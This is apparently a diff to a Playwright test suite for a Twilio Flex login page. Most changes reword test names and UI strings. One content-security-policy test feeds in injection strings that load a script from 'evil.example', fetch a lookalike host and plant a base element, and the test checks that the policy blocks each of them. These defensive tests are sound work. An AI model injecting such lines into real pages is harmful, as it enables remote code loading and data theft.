@@ -31,7 +31,7 @@ const STATES: Record<string, () => Promise<unknown>> = {
     login.twilio.trouble['/v1/Configuration'] = 'abort';
     await login.page.reload();
     await login.alert('could not be reached');
-    await login.status('Your session is kept in this tab');
+    await login.status('This tab still holds your session');
     await login.button('Sign out').waitFor();
   },
   failed: async () => {
@@ -66,7 +66,7 @@ describe.each(looks)('in %o', ({ colorScheme, width }) => {
   });
 });
 
-it('can be used with the keyboard alone, and does not lose the place of who uses it', async () => {
+it('works with the keyboard alone, and keeps the focus when a button disappears', async () => {
   await login.open('?mode=token');
   await login.page.getByLabel('Flex token').press('Shift+Tab');
   await login.page.keyboard.press('Shift+Tab');
@@ -83,7 +83,7 @@ it('can be used with the keyboard alone, and does not lose the place of who uses
   expect(await login.page.evaluate('document.activeElement.id')).toBe('main');
 });
 
-it('moves nothing for people who want less motion', async () => {
+it('animates nothing for people who prefer less motion', async () => {
   const moving = `document.getAnimations().length`;
   await login.renewContext({ reducedMotion: 'reduce' });
   login.twilio.trouble['/v1/Flex/Authentication/Config'] = 'hang';
@@ -92,32 +92,32 @@ it('moves nothing for people who want less motion', async () => {
   expect(await login.page.evaluate(moving)).toBe(0);
 });
 
-it('shows nothing of itself inside a frame, does nothing there, and offers a tab of its own', async () => {
+it('shows nothing inside a frame, does nothing there, and offers to open a new tab', async () => {
   await login.context.route('**/framing', (route) =>
     route.fulfill({ contentType: 'text/html', body: '<iframe src="login.html"></iframe>' }),
   );
   await login.page.goto(`${login.service.origin}/framing`);
   const frame = login.page.frameLocator('iframe');
-  await frame.getByRole('link', { name: 'Open it in a tab of its own' }).waitFor();
+  await frame.getByRole('link', { name: 'Open it in a new tab' }).waitFor();
   expect(await frame.getByRole('button').count()).toBe(0);
   expect(await frame.getByRole('status').count()).toBe(0);
   expect(login.twilio.requests).toEqual([]);
   expect(login.service.requests).not.toContain('/config');
 });
 
-it('shows nothing of itself where its script does not run', async () => {
+it('shows only a note if JavaScript is off', async () => {
   await login.renewContext({ javaScriptEnabled: false });
   await login.open();
   expect(await login.page.getByRole('button').count()).toBe(0);
-  expect(await login.page.locator('noscript').textContent()).toContain('This page needs JavaScript');
+  expect(await login.page.locator('noscript').textContent()).toContain('This page requires JavaScript');
 });
 
-it('says so, and offers to load it again, where its script does not come', async () => {
+it('offers to reload if its script does not load', async () => {
   await login.page.route('**/login.js', (route) => route.abort());
   await login.open();
-  const late = login.page.getByRole('link', { name: 'Load it again' });
+  const late = login.page.getByRole('link', { name: 'Reload the page' });
   expect(await late.isVisible()).toBe(false);
-  // The style waits for 15 s.
+  // The animation starts after 15 s.
   await login.page.evaluate('for (const animation of document.getAnimations()) animation.finish()');
   expect(await late.isVisible()).toBe(true);
   await login.page.unroute('**/login.js');
@@ -126,7 +126,7 @@ it('says so, and offers to load it again, where its script does not come', async
   expect(await late.isVisible()).toBe(false);
 });
 
-it('has a heading and a title that say whether somebody is signed in', async () => {
+it('says in heading and title whether the person is signed in', async () => {
   await login.open();
   await login.page.getByRole('heading', { name: 'Signed in to Flex' }).waitFor();
   expect(await login.page.title()).toBe('Signed in to Flex');
@@ -147,7 +147,7 @@ it.each([
     `const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s)`,
   ],
   ['a request to another host', `fetch('https://evil.example/').then(() => (globalThis.bad = 1))`],
-  ['a request to a host that ends alike', `fetch('https://eviltwilio.com/').then(() => (globalThis.bad = 1))`],
+  ['a request to a host with the same ending', `fetch('https://eviltwilio.com/').then(() => (globalThis.bad = 1))`],
   [
     'a base',
     `const b = document.createElement('base'); b.href = 'https://evil.example/'; document.head.append(b); globalThis.bad = document.baseURI.includes('evil') || undefined`,
@@ -160,13 +160,13 @@ it.each([
     globalThis.stopped = new Promise((done) => addEventListener('securitypolicyviolation', () => done(true)))`);
   await login.open('?mode=token');
   await login.status('You are not signed in');
-  // In a task of the page's own: what a debugger runs is not held to the policy everywhere.
+  // In a task of the page: what a debugger runs is not always held to the policy.
   await login.page.evaluate(`void setTimeout(() => { ${attack} })`);
   expect(await login.page.evaluate('stopped')).toBe(true);
   expect(await login.page.evaluate('globalThis.bad')).toBeUndefined();
 });
 
-it('raises no violation of its policy and no error on the whole way, and asks no host but its own and Twilio', async () => {
+it('violates no policy, logs no error, and contacts no host but its own and Twilio', async () => {
   const hosts = new Set<string>();
   login.context.on('request', (request) => hosts.add(new URL(request.url()).hostname));
   await login.open();
@@ -176,7 +176,7 @@ it('raises no violation of its policy and no error on the whole way, and asks no
   expect([...hosts].filter((host) => !host.endsWith('.twilio.com'))).toEqual(['127.0.0.1']);
 });
 
-it('loads nothing but what the budget counts, before the redirect and for a whole sign-in', async () => {
+it('loads only what the size limits count, before the redirect and for a whole sign-in', async () => {
   const loaded: string[] = [];
   let before: number | undefined;
   login.context.on('request', (request) => {
@@ -191,13 +191,13 @@ it('loads nothing but what the budget counts, before the redirect and for a whol
   expect(loaded.filter((path) => path === '/login-client.js')).toHaveLength(1);
 });
 
-it('fetches the part of the client ahead while it waits for the person', async () => {
+it('fetches the client part ahead while it waits for the person', async () => {
   const ahead = login.page.waitForRequest(/login-client\.js/);
   await login.open('?mode=token');
   await ahead;
 });
 
-it('in a build for the sandbox goes there instead of to Twilio, all the way, and says so', async () => {
+it('sends every request to the sandbox in a build for it, and says so', async () => {
   const asked: string[] = [];
   const sandbox = 'http://127.0.0.1:9';
   await login.context.route(`${sandbox}/**`, async (route) => {
